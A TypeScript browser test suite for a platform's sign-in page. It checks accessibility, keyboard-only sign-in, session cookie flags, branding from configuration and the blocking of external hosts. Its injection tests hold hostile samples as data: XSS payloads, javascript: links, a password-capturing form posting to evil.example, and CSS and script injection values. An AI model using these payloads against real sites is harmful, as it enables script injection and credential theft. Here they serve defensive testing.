/** The pages around signing in, as a browser shows them. */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { stringify } from 'yaml';
import { expectAccessible, HAS_BROWSER, useBrowser } from '../support/browser.ts';
import { API, type Daemon, startDaemon } from '../support/daemon.ts';
import { PASSWORD, passwordHash } from './passwords.ts';

describe.skipIf(!HAS_BROWSER)('the sign-in page in a browser', () => {
  const browser = useBrowser();
  let daemon: Daemon;
  /** Serves scripts, styles and pictures of an operator. */
  let assets: Server;
  let assetsUrl: string;
  const asked: string[] = [];

  beforeAll(async () => {
    daemon = await startDaemon();
    const spec = { passwordHash: passwordHash(PASSWORD) };
    const made = await daemon.call('POST', `${API}/users`, {
      body: { metadata: { name: 'grace' }, spec },
    });
    expect(made.code, made.text).toBe(201);
    const pem = (name: string): Buffer => readFileSync(join(daemon.dataDir, 'tls', name));
    assets = createServer(
      { cert: pem('server.crt'), key: pem('server.key') },
      (request, response) => {
        const path = request.url ?? '';
        asked.push(path);
        const [type = 'text/plain', body = ''] = ASSETS[path.split('?')[0] ?? ''] ?? [];
        response.writeHead(200, { 'content-type': type }).end(body);
      },
    );
    await new Promise<void>((resolve) => assets.listen(0, '127.0.0.1', resolve));
    assetsUrl = `https://127.0.0.1:${(assets.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    assets?.close();
    await daemon?.stop();
  });

  async function configure(config: object): Promise<void> {
    const path = `${API}/config/platform`;
    const body = { spec: { raw: stringify(config) } };
    const answer = await daemon.call('PATCH', path, { body, type: 'application/merge-patch+json' });
    expect(answer.code, answer.text).toBe(200);
  }

  const EVERY_WAY = {
    auth: {
      oidc: { issuerUrl: 'https://idp.invalid', clientId: 'a', clientSecret: 'b' },
      providerE: { host: 'rancher.example' },
    },
  };

  test.each(['light', 'dark'] as const)(
    'every user can use the page, when it is %s',
    async (colorScheme) => {
      await configure({
        ...EVERY_WAY,
        uiSettings: { primaryColor: 'gold', sidebarColor: '#fafafa' },
      });
      const { page, complaints } = await browser.visit({ colorScheme });
      await page.goto(`${daemon.url}/login`);
      await page.locator('summary').click();
      await expectAccessible(page);
      await page.goto(`${daemon.url}/login?error=wrong-password`);
      expect(await page.getByRole('alert').innerText()).toContain('is wrong');
      await expectAccessible(page);
      await page.goto(`${daemon.url}/login?signed-out=1`);
      expect(await page.getByRole('status').innerText()).toBe('You are signed out.');
      await expectAccessible(page);
      expect(complaints).toEqual([]);
    },
  );

  test('signs in by keyboard alone, without scripts, and out again', async () => {
    await configure({});
    const { page, context, complaints } = await browser.visit({ javaScriptEnabled: false });
    await page.goto(`${daemon.url}/login`);
    for (const text of ['grace', 'not the password']) {
      await page.keyboard.press('Tab');
      await page.keyboard.type(text);
    }
    await page.keyboard.press('Enter');
    await page.getByRole('alert').waitFor();
    expect(await page.title()).toMatch(/^Error/);
    expect(page.url()).not.toContain('grace');
    await page.keyboard.press('Tab');
    expect(await page.locator('#username').inputValue()).toBe('grace');
    await page.keyboard.press('Tab');
    await page.keyboard.type(PASSWORD);
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.waitForURL(`${daemon.url}/console`);
    await page.goto(`${daemon.url}/login`);
    await page.getByRole('heading', { name: 'You are signed in' }).waitFor();
    const [cookie] = (await context.cookies()).filter(({ name }) => name === '__Host-session');
    expect(cookie).toMatchObject({ httpOnly: true, secure: true, sameSite: 'Lax', path: '/' });
    await page.keyboard.press('Tab');
    expect(await page.locator(':focus').innerText()).toBe('Open the console');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    expect(await page.getByRole('status').innerText()).toBe('You are signed out.');
    const after = await daemon.call('GET', `${API}/teams`, { token: cookie?.value ?? '' });
    expect(after.code).toBe(401);
    expect(complaints).toEqual([]);
  });

  // covers: uiSettings.{logoURL,smallLogoURL,faviconURL,logoBackgroundColor,primaryColor,sidebarColor} uiSettings.{accentColor,legalTemplate,customCss,customJavaScript} platformHost
  test('the look is that of the configuration', async () => {
    const uiSettings = {
      logoURL: `${assetsUrl}/logo.svg`,
      smallLogoURL: `${assetsUrl}/small.svg`,
      faviconURL: `${assetsUrl}/icon.svg`,
      logoBackgroundColor: 'rgb(1, 2, 3)',
      primaryColor: 'rgb(200 10 20)',
      sidebarColor: '#012345',
      accentColor: 'hsl(120 100% 25%)',
      legalTemplate:
        '<p>By signing in you accept the <a href="https://example.com/t">terms</a>.</p>',
      customCss: [`${assetsUrl}/own.css`],
      customJavaScript: [`${assetsUrl}/own.js`],
    };
    await configure({ platformHost: 'platform.example', uiSettings });
    const { page, complaints } = await browser.visit({ viewport: { width: 1200, height: 800 } });
    await page.goto(`${daemon.url}/login`);
    const style = (selector: string, property: string): Promise<string> =>
      page.evaluate(
        `getComputedStyle(document.querySelector('${selector}')).getPropertyValue('${property}')`,
      );
    const shownLogo = `document.querySelector('.logo').currentSrc`;
    expect(await page.title()).toBe('Sign in · platform.example');
    expect(await page.locator('.logo').getAttribute('alt')).toBe('platform.example');
    const icon = page.locator('link[rel=icon]');
    expect(await icon.getAttribute('href')).toBe(`${assetsUrl}/icon.svg`);
    expect(await style('.logo', 'background-color')).toBe('rgb(1, 2, 3)');
    expect(await style('.brand', 'background-color')).toMatch(
      /0\.0039\d* 0\.137\d* 0\.27\d*|rgb\(1, 35, 69\)/,
    );
    expect(await style('button.primary', 'background-color')).toMatch(
      /0\.784\d* 0\.039\d* 0\.078\d*|rgb\(200, 10, 20\)/,
    );
    expect(await style('.card', 'border-top-color')).toBe('rgb(0, 128, 0)');
    expect(await page.locator('.legal').innerText()).toContain('you accept the terms');
    expect(await style('h1', 'letter-spacing')).toBe('3px');
    await page.locator('html[data-own-script="ran"]').waitFor({ state: 'attached' });
    expect(await page.evaluate(shownLogo)).toBe(`${assetsUrl}/logo.svg`);
    await page.setViewportSize({ width: 360, height: 700 });
    // Not page.waitForFunction: it evaluates in the page, where the policy of the page forbids that.
    await vi.waitFor(async () => {
      expect(await page.evaluate(shownLogo)).toBe(`${assetsUrl}/small.svg`);
    });
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360);
    await expectAccessible(page);
    expect(complaints).toEqual([]);
  });

  test('nothing is asked of other hosts where they are blocked', async () => {
    const uiSettings = {
      logoURL: `${assetsUrl}/logo.svg?blocked`,
      faviconURL: `${assetsUrl}/icon.svg?blocked`,
      customCss: [`${assetsUrl}/own.css?blocked`],
      customJavaScript: [`${assetsUrl}/own.js?blocked`],
      externalURLs: { block: true, allow: ['https://allowed.example'] },
    };
    await configure({ uiSettings });
    const { page, complaints } = await browser.visit();
    await page.goto(`${daemon.url}/login`);
    const load = (url: string): Promise<string> =>
      page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ blockedURI }) => resolve(blockedURI));
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.src = ${JSON.stringify(url)};
      })`);
    expect(complaints).toEqual([]);
    expect(await load(`${assetsUrl}/logo.svg?blocked`)).toContain(assetsUrl);
    expect(asked.filter((path) => path.includes('blocked'))).toEqual([]);
  });

  test.each([
    ['legal text', { legalTemplate: HOSTILE_LEGAL }, 'Corp'],
    ['names', {}, '"><script>document.title = "owned"</script>'],
  ])('no script hidden in %s runs', async (_what, uiSettings, displayName) => {
    const { oidc } = EVERY_WAY.auth;
    await configure({ auth: { connectors: [{ id: 'corp', displayName, oidc }] }, uiSettings });
    const { page, complaints } = await browser.visit();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.goto(`${daemon.url}/login?returnTo=javascript:alert(1)&error=<script>`);
    for (const link of await page.locator('.legal a').all()) {
      await link.click({ noWaitAfter: true });
    }
    expect(await page.title()).toBe('Error: Sign in · gitplane');
    expect(new URL(page.url()).origin).toBe(daemon.url);
    expect(await page.locator('form').count()).toBe(1);
    expect(
      requests.filter((url) => !url.startsWith(daemon.url) && !url.startsWith('data:')),
    ).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test.each([
    [{ primaryColor: 'red;} body{display:none' }],
    [{ sidebarColor: 'url(https://evil.example)' }],
    [{ logoURL: 'javascript:alert(1)' }],
    [{ customCss: ['data:text/css,body{display:none}'] }],
    [{ customJavaScript: ['data:text/javascript,alert(1)'] }],
    [{ customJavaScript: ['//evil.example/x.js'] }],
  ])('the configuration does not take %j', async (uiSettings) => {
    const path = `${API}/config/platform`;
    const body = { spec: { raw: stringify({ uiSettings }) } };
    expect(
      (await daemon.call('PATCH', path, { body, type: 'application/merge-patch+json' })).code,
    ).toBe(422);
  });
});

/** Links that stay, with targets that do not. */
const HOSTILE_LEGAL = `<script>document.title = 'owned'</script>
<img src=x onerror="document.title = 'owned'"><svg onload="document.title='owned'"></svg>
<a href="javascript:document.title='owned'">one</a> <a href="&#106;avascript:document.title='owned'">two</a>
<a href="data:text/html,<script>1</script>">three</a>
</section></footer></body><form action="https://evil.example/"><input name="password"></form>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>`;

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><rect width="120" height="40"/></svg>';

const ASSETS: Readonly<Record<string, readonly [string, string]>> = {
  '/logo.svg': ['image/svg+xml', SVG],
  '/small.svg': ['image/svg+xml', SVG],
  '/icon.svg': ['image/svg+xml', SVG],
  '/own.css': ['text/css', 'h1 { letter-spacing: 3px }'],
  '/own.js': ['text/javascript', 'document.documentElement.dataset.ownScript = "ran"'],
};
